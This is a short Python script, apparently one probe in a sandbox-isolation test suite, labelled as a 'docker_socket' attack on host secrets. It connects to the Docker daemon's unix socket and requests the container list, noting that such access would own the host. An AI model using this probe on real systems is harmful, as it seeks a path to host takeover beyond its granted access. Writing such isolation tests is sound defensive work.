# attack: docker_socket
# category: host_secrets
# kind: network
# describe: talk to the Docker daemon through its unix socket (would own the host)
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock"):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        print(s.recv(4096))
    except OSError as e:
        print(path, e)
